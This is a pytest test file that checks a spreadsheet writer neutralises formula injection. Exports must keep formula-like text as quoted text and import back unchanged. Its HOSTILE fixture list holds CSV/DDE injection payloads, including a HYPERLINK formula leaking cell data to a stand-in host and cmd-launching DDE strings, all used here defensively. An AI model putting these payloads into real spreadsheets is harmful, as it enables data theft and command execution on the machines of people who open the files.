"""The one spreadsheet writer (safety/files/writer.py): text stays text, never a formula, even when it looks like
one; characters a worksheet cannot hold are replaced visibly; our own exports import back unchanged."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from safety.access.audit import audit_entries, export_audit
from safety.access.roles import SYSTEM as ADMIN
from safety.checklists.assessments import open_draft, save_answer, submit_assessment
from safety.checklists.export import export_assessment
from safety.files.reader import read_sheets
from safety.files.writer import REPLACEMENT, workbook_bytes, write_table
from safety.i18n import t
from safety.incidents.imports.pipeline import import_incidents
from safety.incidents.imports.report import errors_workbook
from safety.incidents.log import list_incidents
from safety.incidents.template import COLUMNS, incident_template
from safety.indicators.charts import table_workbook
from safety.register.enterprises import add_enterprise, get_enterprise
from safety.register.spreadsheets import export_register, import_register

from conftest import ROOT

pytestmark = pytest.mark.one_store  # rendering and file formats: DuckDB is enough (see conftest)

# What an attacker (or an unlucky officer) types: formulas of every opening, DDE, and plain look-alikes.
HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "=1+2",
    "+7 701 000 00 00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r\n=1",
    "=cmd|' /C notepad'!'A1'",
]
WRITTEN = [value.replace("\r\n", "\n") for value in HOSTILE]  # line breaks are written as LF


def _template_column(field: str) -> str:
    """The template's column letter of a field."""
    return get_column_letter(COLUMNS.index(field) + 1)


def _formulas(data: bytes) -> list[str]:
    """The formula elements of every sheet in an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_text_that_looks_like_a_formula_is_written_as_text_with_a_quote_prefix():
    book = Workbook()
    write_table(book.active, ["value", "number"], [[value, 1] for value in HOSTILE] + [["plain", 2]])
    data = workbook_bytes(book)
    assert _formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(row, 1) for row in range(2, len(HOSTILE) + 3)]
    assert [c.value for c in cells] == [*WRITTEN, "plain"]  # unchanged, so it imports back as it was
    assert all(c.data_type == "s" for c in cells)
    assert [c.quotePrefix for c in cells] == [not v.startswith("\n") for v in WRITTEN] + [False]
    assert sheet.cell(2, 2).value == 1 and sheet.cell(2, 2).data_type == "n"  # numbers stay numbers


def test_characters_a_worksheet_cannot_hold_are_replaced_visibly():
    book = Workbook()
    write_table(book.active, ["name"], [["bell\x07 vt\x0b nul\x00 end"], ["tab\tand\nnewline"]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert sheet.cell(2, 1).value == f"bell{REPLACEMENT} vt{REPLACEMENT} nul{REPLACEMENT} end"
    assert sheet.cell(3, 1).value == "tab\tand\nnewline"  # tab and newline are text a cell may hold


def test_the_dashboard_workbook_keeps_hostile_names_as_text():
    data = table_workbook({"=evil": (["name", "when"], [[value, dt.date(2026, 1, 5)] for value in HOSTILE])})
    assert _formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(row, 1).value for row in range(2, len(HOSTILE) + 2)] == WRITTEN


@pytest.mark.parametrize("name", HOSTILE[:5])
def test_the_register_export_of_hostile_names_imports_back_unchanged(store, name):
    record = {
        "bin": "210349000012",
        "name_ru": name,
        "name_kk": name,
        "kato": "311000000",
        "oked": "20150",
        "industry": "@industry",
        "joined_on": dt.date(2020, 1, 1),
        "officer_name": "=officer",
    }
    add_enterprise(store, ADMIN, record)
    data = export_register(store, ADMIN, "en")
    assert _formulas(data) == []
    report = import_register(store, ADMIN, data, "register.xlsx")
    assert (len(report.added), len(report.updated), report.unchanged) == (0, 0, 1)
    kept = get_enterprise(store, ADMIN, "210349000012")
    assert (kept.name_ru, kept.industry, kept.officer_name) == (name, "@industry", "=officer")


def test_the_assessment_export_rejected_rows_and_audit_keep_hostile_text_as_text(world):
    store, users, own, _ = world
    officer = users["demo.officer"]
    draft = open_draft(store, officer, own, "golden_rules")
    for number, (_, item) in enumerate(draft.checklist.items()):
        hostile = HOSTILE[number % len(HOSTILE)]
        save_answer(store, officer, draft.id, item.id, rating="red", comment=hostile, evidence=hostile)
    submit_assessment(store, officer, draft.id, "ru")
    assessment = export_assessment(store, officer, draft.id, "ru")
    log = "Дата;Вид;Описание\n" + "".join(f"=1+{n};{value.strip()};x\n" for n, value in enumerate(HOSTILE[:4]))
    result = import_incidents(store, officer, log.encode("utf-8"), "log.csv", own, dry_run=True)
    assert result.errors  # every row is refused, and the refused values go into the workbook
    rejected = errors_workbook(result, "ru")
    admin = users["demo.admin"]
    audit = export_audit(store, admin, audit_entries(store, admin), "ru")
    for data in (assessment, rejected, audit):
        assert _formulas(data) == []
    values = {c.value for sheet in load_workbook(io.BytesIO(rejected)).worksheets for row in sheet for c in row}
    assert "=1+0" in values


def test_only_the_writer_makes_workbooks():
    made_elsewhere = [
        str(path.relative_to(ROOT))
        for folder in ("safety", "app_pages")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "safety" / "files" / "writer.py" and re.search(r"Workbook\(|csv\.writer\(", path.read_text())
    ]
    assert made_elsewhere == []


def _as_text(sheet, row: int, column: str, value: str) -> None:
    """Put text into a cell as an officer's spreadsheet would hold it: text, even when it starts with `=`."""
    cell = sheet[f"{column}{row}"]
    cell.value = value
    cell.data_type = "s"


def test_the_incident_template_filled_with_hostile_text_imports_back_unchanged(world):
    store, users, own, _ = world
    officer = users["demo.officer"]
    workbook = load_workbook(io.BytesIO(incident_template("ru")))
    sheet = workbook.worksheets[0]
    for number, value in enumerate(HOSTILE, start=2):
        sheet[f"{_template_column('occurred_on')}{number}"] = dt.date(2024, 3, number)
        sheet[f"{_template_column('kind')}{number}"] = t("kind.near_miss", "ru")
        _as_text(sheet, number, _template_column("external_id"), f"H-{number}")
        _as_text(sheet, number, _template_column("description"), value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_incidents(store, officer, buffer.getvalue(), "template.xlsx", own)
    assert result.imported == len(HOSTILE) and not result.errors
    stored = {c["external_id"]: c["description"] for c in list_incidents(store, officer, bin_=own)}
    assert [stored[f"H-{n}"] for n in range(2, len(HOSTILE) + 2)] == [v.strip() for v in WRITTEN]


def test_the_rejected_rows_read_back_as_the_values_the_log_held(world):
    store, users, own, _ = world
    officer = users["demo.officer"]
    workbook = load_workbook(io.BytesIO(incident_template("ru")))
    sheet = workbook.worksheets[0]
    for number, value in enumerate(HOSTILE, start=2):  # a formula-like date: each row is refused, its value kept
        _as_text(sheet, number, _template_column("occurred_on"), value)
        sheet[f"{_template_column('kind')}{number}"] = t("kind.near_miss", "ru")
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_incidents(store, officer, buffer.getvalue(), "template.xlsx", own, dry_run=True)
    rejected = errors_workbook(result, "ru")
    assert _formulas(rejected) == []
    [back] = read_sheets(rejected, "rejected.xlsx")
    values = [row[2] for row in back.rows[1:]]
    assert values == [v.strip() for v in WRITTEN]
